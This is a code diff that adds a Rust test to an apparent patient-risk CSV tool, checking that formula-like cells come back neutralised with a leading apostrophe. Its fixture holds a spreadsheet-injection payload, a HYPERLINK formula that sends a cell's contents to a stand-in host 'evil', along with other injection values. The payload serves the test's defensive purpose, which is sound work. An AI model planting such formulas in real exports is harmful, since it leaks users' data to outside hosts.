@@ -176,3 +176,35 @@ fn a_repeated_id_names_the_line_it_was_first_on_with_crlf_and_blank_lines() {
         rows[2]
     );
 }
+
+#[test]
+fn ids_and_cells_written_as_formulas_come_back_inert() {
+    // A patient id, an extra column and a practice code each written as a spreadsheet
+    // formula: the output neutralises every one (a leading apostrophe); numbers stay.
+    let input = "patient_id,practice_code,age,sex,extra_note,cms_dementia\n\
+\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\",C82037,84,F,@SUM(A1),1\n\
++44 116 2,C82037,70,M,-2+3,0\n\
+P3,C82037,65,F,-3.5,0\n";
+    let output = risk(&[], input.as_bytes());
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let rows = rows(&output);
+    assert_eq!(rows[1][0], "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")");
+    assert_eq!(rows[1][4], "'@SUM(A1)");
+    assert_eq!(rows[2][0], "'+44 116 2");
+    assert_eq!(rows[2][4], "'-2+3");
+    // A number is a number, not text.
+    assert_eq!(rows[3][4], "-3.5");
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                "{cell:?} in {row:?}"
+            );
+        }
+    }
+}
